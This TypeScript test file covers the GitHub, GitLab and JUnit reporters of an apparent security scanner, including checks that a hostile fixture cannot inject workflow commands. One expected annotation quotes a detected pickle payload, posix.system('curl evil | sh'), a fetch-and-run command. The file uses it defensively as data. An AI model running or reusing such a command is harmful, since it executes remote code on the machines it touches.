import { Ajv } from 'ajv';
import { describe, expect, test } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { hostileReport } from '../../fixtures/reports/hostile.ts';
import { JUNIT_XSD } from '../../fixtures/reports/junit-xsd.ts';
import { emptyReport, richReport } from '../../fixtures/reports/rich.ts';
import { fixtureTexts } from '../../fixtures/reports/texts.ts';
import { render as github } from '../../src/reporters/github/index.ts';
import { render as gitlab } from '../../src/reporters/gitlab/index.ts';
import { render as junit } from '../../src/reporters/junit/index.ts';
import { expectTame } from './tame.ts';

const options = { texts: fixtureTexts };
const REPORTS = [
  ['rich', richReport],
  ['empty', emptyReport],
  ['hostile', hostileReport],
] as const;

describe('GitHub annotations', () => {
  /** As the runner reads a line: command, properties, message. */
  const COMMAND = /^::(error|warning|notice) ((?:[a-zA-Z]+=[^:,]*)(?:,[a-zA-Z]+=[^:,]*)*)::(.*)$/;

  test('open findings, worst first, on their lines', () => {
    const lines = github(richReport, options).trim().split('\n');
    expect(lines).toHaveLength(6);
    expect(lines[0]).toBe(
      "::error file=models/classifier.pkl,title=Model file runs code when it is loaded (unsafe-artifact)::Loading this file calls posix.system('curl evil | sh').%0A%0ADelete the file and load safetensors instead. Rotate what the machine could reach if it was ever loaded.",
    );
    expect(lines[1]).toMatch(/^::error file=serve\/load\.py,line=9,col=5,title=/);
    expect(lines.map((line) => COMMAND.exec(line)?.[1])).toEqual(['error', 'error', 'error', 'warning', 'warning', 'notice']);
  });

  test('no name starts a command of its own or changes a property', () => {
    const text = github(hostileReport, options);
    expectTame(text);
    const lines = text.trim().split('\n');
    expect(lines).toHaveLength(11);
    for (const line of lines.slice(0, 10)) {
      const [, , properties = '', message = ''] = COMMAND.exec(line) ?? [];
      expect(properties.split(',').map((property) => property.split('=')[0])).toEqual(['file', 'line', 'title']);
      expect(message).not.toMatch(/%(?!25|0A)/);
    }
    expect(lines[10]).toBe('Assay: 2 more findings without an annotation, GitHub shows 10 of each level.');
  });

  test('nothing to say is nothing said', () => {
    expect(github(emptyReport, options)).toBe('');
  });
});

describe('GitLab Code Quality', () => {
  const validate = new Ajv().compile({
    type: 'array',
    items: {
      type: 'object',
      required: ['description', 'check_name', 'fingerprint', 'location', 'severity'],
      additionalProperties: false,
      properties: {
        description: { type: 'string', minLength: 1 },
        check_name: { type: 'string', minLength: 1 },
        fingerprint: { type: 'string', minLength: 1 },
        severity: { enum: ['info', 'minor', 'major', 'critical', 'blocker'] },
        location: {
          type: 'object',
          required: ['path', 'lines'],
          properties: {
            path: { type: 'string', not: { pattern: '^(\\./|/)' } },
            lines: { type: 'object', required: ['begin'], properties: { begin: { type: 'integer', minimum: 1 } } },
          },
        },
      },
    },
  });

  test.each(REPORTS)('%s: the fields that GitLab asks for, each fingerprint once', (_, report) => {
    const text = gitlab(report, options);
    const issues = JSON.parse(text) as readonly { readonly fingerprint: string }[];
    expect(validate(issues), JSON.stringify(validate.errors)).toBe(true);
    expect(issues).toHaveLength(report.findings.filter((each) => each.status === 'open').length);
    expect(new Set(issues.map((issue) => issue.fingerprint)).size).toBe(issues.length);
    expectTame(text);
  });
});

describe('JUnit', () => {
  const check = async (xml: string): Promise<readonly string[]> => {
    const { errors } = await validateXML({
      xml: [{ fileName: 'junit.xml', contents: xml }],
      schema: [{ fileName: 'junit.xsd', contents: JUNIT_XSD }],
    });
    return errors.map((error) => error.message);
  };

  test.each(REPORTS)('%s: valid XML by its XSD', async (_, report) => {
    const xml = junit(report, options);
    expect(await check(xml)).toEqual([]);
    expectTame(xml);
  });

  test('the XSD is at work', async () => {
    expect(await check(junit(richReport, options).replace('<failure', '<fault'))).not.toEqual([]);
  });

  test('open findings fail, suppressed ones are skipped with their reason, counts fit', () => {
    const xml = junit(richReport, options);
    expect(xml).toContain('<testsuites name="assay" tests="9" failures="6" errors="0" skipped="3" time="0">');
    expect(xml.match(/<failure /g)).toHaveLength(6);
    expect(xml).toContain('<skipped message="waived: internal sandbox only (assay.yaml)"/>');
  });

  test('a clean report is one passed test', () => {
    expect(junit(emptyReport, options)).toContain('<testcase name="no findings" classname="assay" time="0"/>');
  });
});
